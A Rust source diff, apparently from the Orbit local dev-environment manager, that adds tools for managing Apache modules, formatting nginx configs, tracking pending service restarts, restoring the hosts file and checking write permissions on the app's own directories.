+        Some(&json!({ "q": query, "limit": limit })),
+    )?;
+    Ok(serde_json::to_string_pretty(&result).unwrap())
+}
+
+// ─── Apache Module Tools ─────────────────────────────────────────
+
+/// `LoadModule` entries in httpd.conf as (module, file, enabled); `#`-prefixed lines are disabled.
+fn parse_apache_modules(content: &str) -> Vec<(String, String, bool)> {
+    content
+        .lines()
+        .filter_map(|line| {
+            let trimmed = line.trim();
+            let (enabled, rest) = match trimmed.strip_prefix('#') {
+                Some(r) => (false, r.trim_start()),
+                None => (true, trimmed),
+            };
+            let parts: Vec<&str> = rest.split_whitespace().collect();
+            if parts.len() != 3 || parts[0] != "LoadModule" {
+                return None;
+            }
+            Some((parts[1].to_string(), parts[2].trim_matches('"').to_string(), enabled))
+        })
+        .collect()
+}
+
+/// Modules a vhost relies on, detected from the directives it uses.
+fn required_apache_modules(vhost: &str) -> Vec<&'static str> {
+    let rules: [(bool, &[&'static str]); 5] = [
+        (vhost.contains("proxy:fcgi://"), &["proxy_module", "proxy_fcgi_module"]),
+        (vhost.contains("ProxyPass "), &["proxy_module", "proxy_http_module"]),
+        (vhost.contains("ws://"), &["proxy_module", "proxy_wstunnel_module"]),
+        // AllowOverride All is there for framework .htaccess rewrites
+        (vhost.contains("RewriteEngine") || vhost.contains("AllowOverride All"), &["rewrite_module"]),
+        (vhost.contains("SSLEngine"), &["ssl_module"]),
+    ];
+    let mut modules: Vec<&'static str> = Vec::new();
+    for (needed, mods) in rules {
+        if needed {
+            for m in mods {
+                if !modules.contains(m) {
+                    modules.push(m);
+                }
+            }
+        }
+    }
+    if vhost.lines().any(|l| l.trim_start().starts_with("Header ")) {
+        modules.push("headers_module");
+    }
+    modules
+}
+
+/// Accepts "rewrite", "mod_rewrite" or "rewrite_module".
+fn normalize_apache_module(name: &str) -> String {
+    let base = name.trim().trim_start_matches("mod_").trim_end_matches("_module");
+    format!("{}_module", base)
+}
+
+fn find_apache_exe(bin_dir: &std::path::Path) -> Result<PathBuf, String> {
+    let paths = [
+        bin_dir.join("apache").join("bin").join(exe_name("httpd")),
+        bin_dir.join("apache").join(exe_name("httpd")),
+    ];
+    paths.into_iter().find(|p| p.exists()).ok_or_else(|| "Apache not found".to_string())
+}
+
+/// `httpd -t`; Apache prints "Syntax OK" on stderr.
+fn apache_config_test(bin_dir: &std::path::Path) -> Result<(), String> {
+    let httpd = find_apache_exe(bin_dir)?;
+    let output = hidden_command(&httpd)
+        .current_dir(bin_dir.join("apache"))
+        .arg("-t")
+        .output()
+        .map_err(|e| format!("Failed to test Apache config: {}", e))?;
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    if output.status.success() || stderr.contains("Syntax OK") {
+        Ok(())
+    } else {
+        Err(format!("Apache config test failed: {}", stderr.trim()))
+    }
+}
+
+/// Restart Apache (stop + start); the bundled httpd has no portable graceful reload.
+fn restart_apache(bin_dir: &PathBuf) -> Result<(), String> {
+    let services = scan_services_cached(bin_dir);
+    let svc = services.iter().find(|s| s.service_type == "apache")
+        .ok_or("Apache is not installed")?;
+    if is_service_running("apache") {
+        stop_service_process(&svc.name)?;
+        std::thread::sleep(std::time::Duration::from_millis(500));
+    }
+    start_service_process(svc)?;
+    clear_pending_restart("apache");
+    Ok(())
+}
+
+/// Make sure httpd.conf includes conf/vhosts/*.conf (same check the app performs).
+fn ensure_apache_vhosts_include(bin_dir: &std::path::Path) -> Result<(), String> {
+    let httpd_conf = bin_dir.join("apache").join("conf").join("httpd.conf");
+    let content = fs::read_to_string(&httpd_conf)
+        .map_err(|e| format!("Failed to read httpd.conf: {}", e))?;
+    if !content.contains("conf/vhosts/") {
+        fs::write(&httpd_conf, format!("{}\n\n# Include virtual hosts\nInclude conf/vhosts/*.conf\n", content.trim_end()))
+            .map_err(|e| format!("Failed to write httpd.conf: {}", e))?;
+    }
+    fs::create_dir_all(bin_dir.join("apache").join("conf").join("vhosts"))
+        .map_err(|e| format!("Failed to create vhosts dir: {}", e))
+}
+
+fn tool_list_apache_modules(domain: Option<&str>) -> Result<String, String> {
+    let bin_dir = get_bin_dir();
+    let conf_path = get_config_file_path("apache", None)?;
+    let content = fs::read_to_string(&conf_path)
+        .map_err(|e| format!("Failed to read httpd.conf: {}. Is Apache installed?", e))?;
+    let modules = parse_apache_modules(&content);
+
+    let mut result = json!({
+        "config_file": conf_path.to_string_lossy(),
+        "enabled_count": modules.iter().filter(|m| m.2).count(),
+        "modules": modules.iter().map(|(name, file, enabled)| json!({
+            "name": name,
+            "file": file,
+            "enabled": enabled
+        })).collect::<Vec<_>>()
+    });
 
-    // Try to pretty-print JSON
-    if let Ok(parsed) = serde_json::from_str::<Value>(&response) {
-        Ok(serde_json::to_string_pretty(&parsed).unwrap())
-    } else {
-        Ok(response)
+    if let Some(domain) = domain.filter(|d| !d.is_empty()) {
+        let vhost_path = bin_dir.join("apache").join("conf").join("vhosts").join(format!("{}.conf", domain));
+        let vhost = fs::read_to_string(&vhost_path)
+            .map_err(|_| format!("No Apache vhost found for '{}'", domain))?;
+        let required: Vec<Value> = required_apache_modules(&vhost)
+            .into_iter()
+            .map(|name| {
+                let entry = modules.iter().find(|m| m.0 == name);
+                json!({
+                    "name": name,
+                    "available": entry.is_some(),
+                    "enabled": entry.map(|m| m.2).unwrap_or(false)
+                })
+            })
+            .collect();
+        let missing: Vec<Value> = required.iter()
+            .filter(|m| m["enabled"] != json!(true))
+            .map(|m| m["name"].clone())
+            .collect();
+        result["site"] = json!({
+            "domain": domain,
+            "required_modules": required,
+            "missing": missing
+        });
     }
+
+    Ok(serde_json::to_string_pretty(&result).unwrap())
 }
 
-fn tool_get_email(id: &str) -> Result<String, String> {
-    require_service("mailpit")?;
-    if id.is_empty() {
-        return Err("Email ID is required".to_string());
+fn tool_toggle_apache_module(module: &str, enabled: bool) -> Result<String, String> {
+    if module.is_empty() {
+        return Err("Module name is required".to_string());
     }
+    let name = normalize_apache_module(module);
+    let bin_dir = get_bin_dir();
+    let conf_path = get_config_file_path("apache", None)?;
+    let content = fs::read_to_string(&conf_path)
+        .map_err(|e| format!("Failed to read httpd.conf: {}. Is Apache installed?", e))?;
 
-    let response = mailpit_http("GET", &format!("/api/v1/message/{}", id))?;
+    let mut found = false;
+    let mut changed = false;
+    // Line by line with each line's own ending, so a CRLF httpd.conf stays CRLF
+    let new_content: String = content.split_inclusive('\n').map(|line| {
+        let trimmed = line.trim();
+        let uncommented = trimmed.trim_start_matches('#').trim_start();
+        let parts: Vec<&str> = uncommented.split_whitespace().collect();
+        if parts.len() == 3 && parts[0] == "LoadModule" && parts[1] == name {
+            found = true;
+            let is_enabled = !trimmed.starts_with('#');
+            if is_enabled != enabled {
+                changed = true;
+                let eol = &line[line.trim_end_matches(['\r', '\n']).len()..];
+                return if enabled { format!("{}{}", uncommented, eol) } else { format!("#{}{}", uncommented, eol) };
+            }
+        }
+        line.to_string()
+    }).collect();
 
-    if let Ok(parsed) = serde_json::from_str::<Value>(&response) {
-        Ok(serde_json::to_string_pretty(&parsed).unwrap())
-    } else {
-        Ok(response)
+    let action = if enabled { "enabled" } else { "disabled" };
+    if !found {
+        return Err(format!("Module '{}' has no LoadModule line in httpd.conf", name));
+    }
+    if !changed {
+        return Ok(format!("Module '{}' is already {}", name, action));
     }
-}
 
-fn tool_delete_emails() -> Result<String, String> {
-    require_service("mailpit")?;
-    mailpit_http("DELETE", "/api/v1/messages")?;
-    Ok("All emails deleted from Mailpit".to_string())
+    backup_file(&conf_path)?;
+    fs::write(&conf_path, &new_content)
+        .map_err(|e| format!("Failed to write httpd.conf: {}", e))?;
+
+    if let Err(e) = apache_config_test(&bin_dir) {
+        let _ = fs::write(&conf_path, &content);
+        return Err(format!("{} — httpd.conf restored", e));
+    }
+
+    if !is_service_running("apache") {
+        return Ok(format!("Module '{}' {} (applies on next Apache start)", name, action));
+    }
+    restart_apache(&bin_dir)?;
+    Ok(format!("Module '{}' {} and Apache restarted", name, action))
 }
 
 // ─── Config File Tools ───────────────────────────────────────────
@@ -3808,9 +10186,15 @@ fn tool_write_config(config_type: &str, content: &str, php_version: Option<&str>
     let path = get_config_file_path(config_type, php_version)?;
     backup_file(&path)?;
 
-    fs::write(&path, content)
+    write_atomic(&path, content)
         .map_err(|e| format!("Failed to write config: {}", e))?;
 
+    let service = match config_type {
+        "php" => format!("php-{}", php_version.unwrap_or_default()),
+        other => other.to_string(),
+    };
+    mark_pending_restart(&service, &format!("{} edited", path.file_name().unwrap_or_default().to_string_lossy()));
+
     Ok(format!("Config written to {} (backup saved as .bak)", path.display()))
 }
 
@@ -3846,32 +10230,15 @@ fn tool_write_site_config(domain: &str, content: &str) -> Result<String, String>
     let bin_dir = get_bin_dir();
     let conf_path = bin_dir.join("nginx").join("conf").join("sites-enabled").join(format!("{}.conf", domain));
 
-    backup_file(&conf_path)?;
-
-    fs::write(&conf_path, content)
-        .map_err(|e| format!("Failed to write config: {}", e))?;
+    // Write, then test nginx config — restores the previous file on failure
+    let nginx_running = is_service_running("nginx");
+    write_with_rollback(&conf_path, content, || {
+        if nginx_running { nginx_config_test(&bin_dir) } else { Ok(()) }
+    })?;
 
-    // Test nginx config
-    if is_service_running("nginx") {
+    if nginx_running {
         let nginx = find_nginx_exe(&bin_dir)?;
         let nginx_dir = nginx.parent().unwrap_or(&bin_dir);
-        let test = hidden_command(&nginx)
-            .current_dir(nginx_dir)
-            .arg("-t")
-            .output()
-            .map_err(|e| format!("Failed to test nginx config: {}", e))?;
-
-        if !test.status.success() {
-            // Rollback
-            let bak_path = conf_path.with_extension("conf.bak");
-            if bak_path.exists() {
-                fs::copy(&bak_path, &conf_path).ok();
-            }
-            let stderr = String::from_utf8_lossy(&test.stderr);
-            return Err(format!("Nginx config test failed (rolled back): {}", stderr.trim()));
-        }
-
-        // Reload
         hidden_command(&nginx)
             .current_dir(nginx_dir)
             .args(["-s", "reload"])
@@ -3882,31 +10249,250 @@ fn tool_write_site_config(domain: &str, content: &str) -> Result<String, String>
     Ok(format!("Site config for '{}' updated and nginx reloaded", domain))
 }
 
+/// The code part of an nginx config line (comment stripped) and the change in
+/// block depth it causes: (leading `}` count, net `{` minus `}`). Braces and
+/// `#` inside quotes don't count.
+fn nginx_line_braces(line: &str) -> (&str, usize, i32) {
+    let mut quote: Option<char> = None;
+    let mut code_end = line.len();
+    let (mut leading_closes, mut net, mut seen_code) = (0usize, 0i32, false);
+    for (i, c) in line.char_indices() {
+        match (quote, c) {
+            (Some(q), _) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (None, '#') => {
+                code_end = i;
+                break;
+            }
+            (None, '{') => net += 1,
+            (None, '}') => {
+                net -= 1;
+                if !seen_code {
+                    leading_closes += 1;
+                }
+            }
+            _ => {}
+        }
+        if c != '}' && !c.is_whitespace() {
+            seen_code = true;
+        }
+    }
+    (line[..code_end].trim(), leading_closes, net)
+}
+
+/// Re-indent nginx config text (4 spaces per block), collapse blank-line runs
+/// and collect lint warnings. Pure: never touches the filesystem.
+fn format_nginx_config(content: &str) -> (String, Vec<String>) {
+    let lines: Vec<&str> = content.lines().map(str::trim).collect();
+    let mut out: Vec<String> = Vec::new();
+    let mut warnings: Vec<String> = Vec::new();
+    let mut depth: i32 = 0;
+    let mut continued = false;
+
+    struct ServerBlock {
+        /// Depth of the block's own directives
+        depth: i32,
+        ports: Vec<String>,
+        /// server_name entries with their line numbers
+        names: Vec<(String, usize)>,
+    }
+    let mut servers: Vec<ServerBlock> = Vec::new();
+    let mut open_server: Option<usize> = None;
+
+    for (i, line) in lines.iter().enumerate() {
+        let line_no = i + 1;
+        if line.is_empty() {
+            if out.last().is_some_and(|l| !l.is_empty()) {
+                out.push(String::new());
+            }
+            continue;
+        }
+
+        let (code, leading_closes, net) = nginx_line_braces(line);
+        let indent = if continued { depth + 1 } else { (depth - leading_closes as i32).max(0) };
+        out.push(format!("{}{}", "    ".repeat(indent as usize), line));
+        if code.is_empty() {
+            continue;
+        }
+
+        let mut words = code.trim_end_matches([';', '{']).split_whitespace();
+        let directive = words.next().unwrap_or("");
+        if directive == "server" && code.ends_with('{') && !continued {
+            servers.push(ServerBlock { depth: depth + 1, ports: Vec::new(), names: Vec::new() });
+            open_server = Some(servers.len() - 1);
+        }
+        if let Some(server) = open_server.and_then(|idx| servers.get_mut(idx)) {
+            if depth == server.depth && !continued {
+                match directive {
+                    "listen" => {
+                        if let Some(addr) = words.next() {
+                            let port = addr.rsplit(':').next().unwrap_or(addr);
+                            server.ports.push(port.to_string());
+                        }
+                    }
+                    "server_name" => {
+                        for name in words {
+                            if server.names.iter().any(|(n, _)| n == name) {
+                                warnings.push(format!("Line {}: server_name '{}' is listed twice in the same server block", line_no, name));
+                            } else {
+                                server.names.push((name.to_string(), line_no));
+                            }
+                        }
+                    }
+                    _ => {}
+                }
+            }
+        }
+
+        depth += net;
+        if depth < 0 {
+            warnings.push(format!("Line {}: unmatched '}}'", line_no));
+            depth = 0;
+        }
+        if open_server.is_some_and(|idx| depth < servers[idx].depth) {
+            open_server = None;
+        }
+
+        // A statement ends with ';', '{' or '}'. An unterminated line is only a
+        // continuation when the next one starts with a quoted string (log_format).
+        let terminated = code.ends_with(';') || code.ends_with('{') || code.ends_with('}');
+        let next_is_continuation = lines[i + 1..].iter()
+            .find(|l| !l.is_empty() && !l.starts_with('#'))
+            .is_some_and(|l| l.starts_with('\'') || l.starts_with('"'));
+        continued = !terminated && next_is_continuation;
+        if !terminated && !next_is_continuation {
+            warnings.push(format!("Line {}: missing ';' after '{}'", line_no, code));
+        }
+    }
+
+    if depth > 0 {
+        warnings.push(format!("{} unclosed block(s): missing '}}' at the end", depth));
+    }
+
+    // The same name in two server blocks sharing a port: nginx ignores one of them
+    for (a, first) in servers.iter().enumerate() {
+        for second in &servers[a + 1..] {
+            let shared_port = first.ports.is_empty() && second.ports.is_empty()
+                || first.ports.iter().any(|p| second.ports.contains(p));
+            if !shared_port {
+                continue;
+            }
+            for (name, line_no) in &second.names {
+                if let Some((_, first_line)) = first.names.iter().find(|(n, _)| n == name) {
+                    warnings.push(format!(
+                        "Line {}: server_name '{}' duplicates the server block at line {} on the same port",
+                        line_no, name, first_line
+                    ));
+                }
+            }
+        }
+    }
+
+    while out.last().is_some_and(|l| l.is_empty()) {
+        out.pop();
+    }
+    let mut formatted = out.join("\n");
+    formatted.push('\n');
+    (formatted, warnings)
+}
+
+fn tool_format_nginx_config(content: &str) -> Result<String, String> {
+    if content.trim().is_empty() {
+        return Err("Content is required".to_string());
+    }
+    let (formatted, warnings) = format_nginx_config(content);
+    Ok(serde_json::to_string_pretty(&json!({
+        "formatted": formatted,
+        "changed": formatted != content,
+        "warnings": warnings
+    })).unwrap())
+}
+
 // ─── Batch Operations ────────────────────────────────────────────
 
-fn tool_start_all_services() -> Result<String, String> {
+fn tool_preflight_check() -> Result<String, String> {
     let bin_dir = get_bin_dir();
-    let services = scan_services(&bin_dir);
+    let services = scan_services_cached(&bin_dir);
     let startable = ["nginx", "php", "mariadb", "redis", "apache", "mailpit", "meilisearch", "postgresql", "mongodb"];
 
     let targets: Vec<&ServiceInfo> = services.iter()
         .filter(|s| startable.contains(&s.service_type.as_str()))
         .collect();
+    let failures = preflight_all(&targets, &bin_dir);
+
+    let services: Vec<Value> = targets.iter().map(|svc| {
+        let problems = failures.iter()
+            .find(|(name, _)| *name == svc.name)
+            .map(|(_, p)| p.clone())
+            .unwrap_or_default();
+        let status = if is_service_running(&svc.name) {
+            "running"
+        } else if problems.is_empty() {
+            "ready"
+        } else {
+            "blocked"
+        };
+        json!({ "name": svc.name, "status": status, "problems": problems })
+    }).collect();
+
+    Ok(serde_json::to_string_pretty(&json!({
+        "ready": failures.is_empty(),
+        "services": services
+    })).unwrap())
+}
+
+fn tool_start_all_services(skip_failing: bool) -> Result<String, String> {
+    let bin_dir = get_bin_dir();
+    let services = scan_services_cached(&bin_dir);
+    let startable = ["nginx", "php", "mariadb", "redis", "apache", "mailpit", "meilisearch", "postgresql", "mongodb"];
+
+    let mut targets: Vec<&ServiceInfo> = services.iter()
+        .filter(|s| startable.contains(&s.service_type.as_str()))
+        .collect();
 
     if targets.is_empty() {
         return Ok("No startable services installed.".to_string());
     }
+    targets.sort_by_key(|s| startup_priority(&s.name));
+
+    // Includes a busy port for each stopped service; running ones are left alone
+    let failures = preflight_all(&targets, &bin_dir);
+    let report: Vec<String> = failures.iter()
+        .map(|(name, problems)| format!("{}: {}", name, problems.join("; ")))
+        .collect();
+    if !failures.is_empty() && !skip_failing {
+        return Err(format!(
+            "Preflight failed, no services were started:\n{}\nFix these or call again with skip_failing to start the rest.",
+            report.join("\n")
+        ));
+    }
 
     let mut results = Vec::new();
     for svc in &targets {
+        if let Some((_, problems)) = failures.iter().find(|(name, _)| *name == svc.name) {
+            results.push(format!("{}: skipped — {}", svc.name, problems.join("; ")));
+            continue;
+        }
         if is_service_running(&svc.name) {
             results.push(format!("{}: already running", svc.name));
             continue;
         }
         match start_service_process(svc) {
             Ok(pid) => {
-                std::thread::sleep(std::time::Duration::from_millis(300));
-                results.push(format!("{}: started (PID {})", svc.name, pid));
+                clear_pending_restart(&svc.name);
+                // nginx answers 502 until PHP accepts connections, so let it come up first
+                match get_service_port(&svc.name).filter(|_| svc.service_type == "php") {
+                    Some(port) if !wait_for_port(port, PHP_READY_TIMEOUT) => results.push(format!(
+                        "{}: started (PID {}), but port {} was not listening after {}s",
+                        svc.name, pid, port, PHP_READY_TIMEOUT.as_secs()
+                    )),
+                    Some(_) => results.push(format!("{}: started (PID {})", svc.name, pid)),
+                    None => {
+                        std::thread::sleep(std::time::Duration::from_millis(300));
+                        results.push(format!("{}: started (PID {})", svc.name, pid));
+                    }
+                }
             }
             Err(e) => results.push(format!("{}: failed — {}", svc.name, e)),
         }
@@ -3917,7 +10503,7 @@ fn tool_start_all_services() -> Result<String, String> {
 
 fn tool_stop_all_services() -> Result<String, String> {
     let bin_dir = get_bin_dir();
-    let services = scan_services(&bin_dir);
+    let services = scan_services_cached(&bin_dir);
     let startable = ["nginx", "php", "mariadb", "redis", "apache", "mailpit", "meilisearch", "postgresql", "mongodb"];
 
     let targets: Vec<&ServiceInfo> = services.iter()
@@ -3931,7 +10517,11 @@ fn tool_stop_all_services() -> Result<String, String> {
     let mut results = Vec::new();
     for svc in &targets {
         match stop_service_process(&svc.name) {
-            Ok(_) => results.push(format!("{}: stopped", svc.name)),
+            Ok(outcome) if !outcome.was_running => results.push(format!("{}: not running", svc.name)),
+            Ok(outcome) => {
+                clear_pending_restart(&svc.name);
+                results.push(format!("{}: stopped ({})", svc.name, outcome.method));
+            }
             Err(e) => results.push(format!("{}: failed — {}", svc.name, e)),
         }
     }
@@ -3939,6 +10529,146 @@ fn tool_stop_all_services() -> Result<String, String> {
     Ok(results.join("\n"))
 }
 
+// ─── Pending Restarts ────────────────────────────────────────────
+// Shared with the GUI via config/pending_restarts.json so both sides see
+// which services have config edits that are not live yet.
+
+#[derive(Deserialize, Serialize, Clone)]
+struct PendingRestart {
+    service: String,
+    reason: String,
+    since: String,
+}
+
+fn pending_restarts_path() -> PathBuf {
+    get_config_dir().join("pending_restarts.json")
+}
+
+fn read_pending_restarts() -> Vec<PendingRestart> {
+    fs::read_to_string(pending_restarts_path())
+        .ok()
+        .and_then(|c| serde_json::from_str(&c).ok())
+        .unwrap_or_default()
+}
+
+fn write_pending_restarts(entries: &[PendingRestart]) {
+    let path = pending_restarts_path();
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent).ok();
+    }
+    if let Ok(json) = serde_json::to_string_pretty(entries) {
+        fs::write(&path, json).ok();
+    }
+}
+
+/// Flag a service as needing a restart. The flag is cleared the next time the
+/// service is started, restarted or stopped.
+fn mark_pending_restart(service: &str, reason: &str) {
+    let mut entries = read_pending_restarts();
+    match entries.iter_mut().find(|e| e.service == service) {
+        Some(entry) => entry.reason = reason.to_string(),
+        None => entries.push(PendingRestart {
+            service: service.to_string(),
+            reason: reason.to_string(),
+            since: chrono_now(),
+        }),
+    }
+    write_pending_restarts(&entries);
+}
+
+/// Clear the flag for a service. A bare type name (e.g. "php") clears every
+/// versioned instance, matching how stop_service_process kills by image name.
+fn clear_pending_restart(service: &str) {
+    let mut entries = read_pending_restarts();
+    let before = entries.len();
+    let prefix = format!("{}-", service);
+    entries.retain(|e| e.service != service && !e.service.starts_with(&prefix));
+    if entries.len() != before {
+        write_pending_restarts(&entries);
+    }
+}
+
+fn tool_get_pending_restarts() -> Result<String, String> {
+    let entries = read_pending_restarts();
+    if entries.is_empty() {
+        return Ok("No services are waiting for a restart.".to_string());
+    }
+
+    let result: Vec<Value> = entries.iter().map(|e| json!({
+        "service": e.service,
+        "reason": e.reason,
+        "since": e.since,
+        "running": is_service_running(&e.service)
+    })).collect();
+
+    Ok(serde_json::to_string_pretty(&result).unwrap())
+}
+
+/// Start order for start_all_services and apply_changes: mail and cache first,
+/// then data stores, then PHP, then the web servers that sit in front of it.
+fn startup_priority(service: &str) -> u8 {
+    if service == "mailpit" || service == "redis" {
+        0
+    } else if service.starts_with("php") {
+        2
+    } else if service == "nginx" || service == "apache" {
+        3
+    } else {
+        1
+    }
+}
+
+fn tool_apply_changes() -> Result<String, String> {
+    let mut entries = read_pending_restarts();
+    if entries.is_empty() {
+        return Ok("Nothing to apply — no services are waiting for a restart.".to_string());
+    }
+    entries.sort_by_key(|e| startup_priority(&e.service));
+
+    let bin_dir = get_bin_dir();
+    let services = scan_services_cached(&bin_dir);
+    let mut results = Vec::new();
+
+    for entry in &entries {
+        let name = entry.service.as_str();
+
+        if !is_service_running(name) {
+            clear_pending_restart(name);
+            results.push(json!({
+                "service": name,
+                "action": "skipped",
+                "detail": "not running — changes apply on next start"
+            }));
+            continue;
+        }
+
+        // nginx can pick up config without dropping connections
+        let outcome = if name == "nginx" {
+            nginx_test_and_reload(&bin_dir).map(|_| "reloaded".to_string())
+        } else {
+            match services.iter().find(|s| s.name == name) {
+                Some(svc) => stop_service_process(&svc.name)
+                    .and_then(|_| {
+                        std::thread::sleep(std::time::Duration::from_millis(500));
+                        start_service_process(svc)
+                    })
+                    .map(|pid| format!("restarted (PID {})", pid)),
+                None => Err(format!("{} is no longer installed", name)),
+            }
+        };
+
+        match outcome {
+            Ok(action) => {
+                clear_pending_restart(name);
+                results.push(json!({ "service": name, "action": action, "reason": entry.reason }));
+            }
+            Err(e) => results.push(json!({ "service": name, "action": "failed", "detail": e })),
+        }
+    }
+
+    Ok(serde_json::to_string_pretty(&results).unwrap())
+}
+
 // ─── Hosts File ──────────────────────────────────────────────────
 
 fn get_hosts_path() -> PathBuf {
@@ -3969,23 +10699,308 @@ fn tool_hosts_list() -> Result<String, String> {
         }
     }
 
-    Ok(serde_json::to_string_pretty(&entries).unwrap())
+    Ok(serde_json::to_string_pretty(&entries).unwrap())
+}
+
+fn tool_hosts_add(domain: &str) -> Result<String, String> {
+    if domain.is_empty() {
+        return Err("Domain is required".to_string());
+    }
+    add_hosts_entry(domain)?;
+    Ok(format!("Added '{}' → {} to hosts file", domain, hosts_ips(hosts_ipv6_enabled()).join(", ")))
+}
+
+fn tool_hosts_remove(domain: &str) -> Result<String, String> {
+    if domain.is_empty() {
+        return Err("Domain is required".to_string());
+    }
+    remove_hosts_entry(domain)?;
+    Ok(format!("Removed '{}' from hosts file", domain))
+}
+
+fn tool_hosts_restore() -> Result<String, String> {
+    let hosts_path = get_hosts_path();
+    let backup_dir = hosts_backup_dir();
+    let backup = hosts_backups(&backup_dir).pop()
+        .ok_or_else(|| format!("No Orbit backups of {} found in {}", hosts_path.display(), backup_dir.display()))?;
+    let content = fs::read_to_string(&backup)
+        .map_err(|e| format!("Failed to read {}: {}", backup.display(), e))?;
+    // Keep the file being replaced, without rotating out the one restored
+    let current = backup_hosts_file(&hosts_path, &backup_dir, &hosts_backup_stamp(), HOSTS_BACKUPS_KEPT + 1)?;
+
+    write_hosts_with_fallback(
+        || fs::write(&hosts_path, &content),
+        || {
+            #[cfg(unix)]
+            {
+                let manual = format!("sudo cp {} {}", backup.display(), hosts_path.display());
+                sudo_hosts_write(&hosts_path, &content, &manual)
+            }
+            #[cfg(target_os = "windows")]
+            { elevated_hosts_write(&content) }
+        },
+    )?;
+    Ok(format!("Restored {} from {} (previous content saved to {})", hosts_path.display(), backup.display(), current.display()))
+}
+
+// ─── Permissions (shared with cli.rs) ────────────────────────────
+
+/// Write-access check for one path Orbit needs to modify.
+#[derive(Serialize)]
+struct PermissionCheck {
+    label: String,
+    path: String,
+    exists: bool,
+    writable: bool,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    problem: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    remediation: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    repair: Option<String>,
+}
+
+/// Paths Orbit writes to: (label, path, is_dir)
+fn permission_targets() -> Vec<(&'static str, PathBuf, bool)> {
+    let mut targets = vec![
+        ("data_dir", get_orbit_data_dir(), true),
+        ("config_dir", get_config_dir(), true),
+    ];
+    // Elsewhere hosts edits fall back to sudo, so only Windows
+    // expects the elevated app to write it directly.
+    if cfg!(target_os = "windows") {
+        targets.insert(0, ("hosts_file", get_hosts_path(), false));
+    }
+    let mariadb_data = get_bin_dir().join("data").join("mariadb");
+    if mariadb_data.exists() {
+        targets.push(("mariadb_data_dir", mariadb_data, true));
+    }
+    targets
+}
+
+/// Probe write access without changing content: open files for append,
+/// create and remove a marker file in directories.
+fn probe_write(path: &std::path::Path, is_dir: bool) -> std::io::Result<()> {
+    if is_dir {
+        let probe = path.join(".orbit-write-test");
+        fs::write(&probe, b"ok")?;
+        fs::remove_file(&probe)
+    } else {
+        fs::OpenOptions::new().append(true).open(path).map(|_| ())
+    }
+}
+
+/// Describe why a write failed, including the ACL entries on Windows.
+fn describe_permission_problem(path: &std::path::Path, err: &std::io::Error) -> String {
+    #[cfg(target_os = "windows")]
+    {
+        if let Ok(output) = hidden_command("icacls").arg(path).output() {
+            let acl = String::from_utf8_lossy(&output.stdout);
+            let path_str = path.to_string_lossy();
+            let entries: Vec<String> = acl
+                .lines()
+                .map(|l| l.trim().trim_start_matches(path_str.as_ref()).trim().to_string())
+                .filter(|l| !l.is_empty() && !l.starts_with("Successfully processed"))
+                .collect();
+            if !entries.is_empty() {
+                return format!("{} (ACL: {})", err, entries.join("; "));
+            }
+        }
+        format!("{}", err)
+    }
+    #[cfg(not(target_os = "windows"))]
+    {
+        use std::os::unix::fs::MetadataExt;
+        use std::os::unix::fs::PermissionsExt;
+        match fs::metadata(path) {
+            Ok(meta) => format!(
+                "{} (owner uid {}, mode {:o})",
+                err,
+                meta.uid(),
+                meta.permissions().mode() & 0o7777
+            ),
+            Err(_) => format!("{}", err),
+        }
+    }
+}
+
+/// Shell command that grants the current user write access.
+fn permission_remediation(path: &std::path::Path, is_dir: bool) -> String {
+    let p = path.display();
+    #[cfg(target_os = "windows")]
+    {
+        if is_dir {
+            format!("takeown /F \"{}\" /R /D Y && icacls \"{}\" /grant \"%USERNAME%\":(OI)(CI)F /T", p, p)
+        } else {
+            format!("takeown /F \"{}\" && icacls \"{}\" /grant \"%USERNAME%\":F", p, p)
+        }
+    }
+    #[cfg(not(target_os = "windows"))]
+    {
+        let recursive = if is_dir { " -R" } else { "" };
+        format!("sudo chown{} \"$(whoami)\" \"{}\" && sudo chmod{} u+w \"{}\"", recursive, p, recursive, p)
+    }
+}
+
+fn check_path_permission(label: &str, path: &std::path::Path, is_dir: bool) -> PermissionCheck {
+    let exists = path.exists();
+    let result = if exists {
+        probe_write(path, is_dir)
+    } else {
+        Err(std::io::Error::new(std::io::ErrorKind::NotFound, "path does not exist"))
+    };
+    let (problem, remediation) = match &result {
+        Ok(()) => (None, None),
+        Err(_) if !exists => (Some("Path does not exist".to_string()), None),
+        Err(e) => (
+            Some(describe_permission_problem(path, e)),
+            Some(permission_remediation(path, is_dir)),
+        ),
+    };
+    PermissionCheck {
+        label: label.to_string(),
+        path: path.to_string_lossy().to_string(),
+        exists,
+        writable: result.is_ok(),
+        problem,
+        remediation,
+        repair: None,
+    }
+}
+
+/// Try to grant the current user write access (needs elevation on Windows).
+fn repair_path_permission(path: &std::path::Path, is_dir: bool) -> Result<(), String> {
+    #[cfg(target_os = "windows")]
+    {
+        let path_str = path.to_string_lossy().to_string();
+        let user = std::env::var("USERNAME").map_err(|_| "USERNAME is not set".to_string())?;
+        let mut takeown = hidden_command("takeown");
+        takeown.args(["/F", path_str.as_str()]);
+        if is_dir {
+            takeown.args(["/R", "/D", "Y"]);
+        }
+        let grant = if is_dir { format!("{}:(OI)(CI)F", user) } else { format!("{}:F", user) };
+        let mut icacls = hidden_command("icacls");
+        icacls.args([path_str.as_str(), "/grant", grant.as_str()]);
+        if is_dir {
+            icacls.arg("/T");
+        }
+        for (name, mut cmd) in [("takeown", takeown), ("icacls", icacls)] {
+            let output = cmd.output().map_err(|e| format!("Failed to run {}: {}", name, e))?;
+            if !output.status.success() {
+                let msg = String::from_utf8_lossy(&output.stderr).trim().to_string();
+                let msg = if msg.is_empty() { String::from_utf8_lossy(&output.stdout).trim().to_string() } else { msg };
+                return Err(format!("{} failed (run as Administrator?): {}", name, msg));
+            }
+        }
+        Ok(())
+    }
+    #[cfg(not(target_os = "windows"))]
+    {
+        let mut chmod = hidden_command("chmod");
+        if is_dir {
+            chmod.arg("-R");
+        }
+        let output = chmod
+            .arg("u+w")
+            .arg(path)
+            .output()
+            .map_err(|e| format!("Failed to run chmod: {}", e))?;
+        if output.status.success() {
+            Ok(())
+        } else {
+            Err(format!(
+                "chmod failed (needs sudo?): {}",
+                String::from_utf8_lossy(&output.stderr).trim()
+            ))
+        }
+    }
+}
+
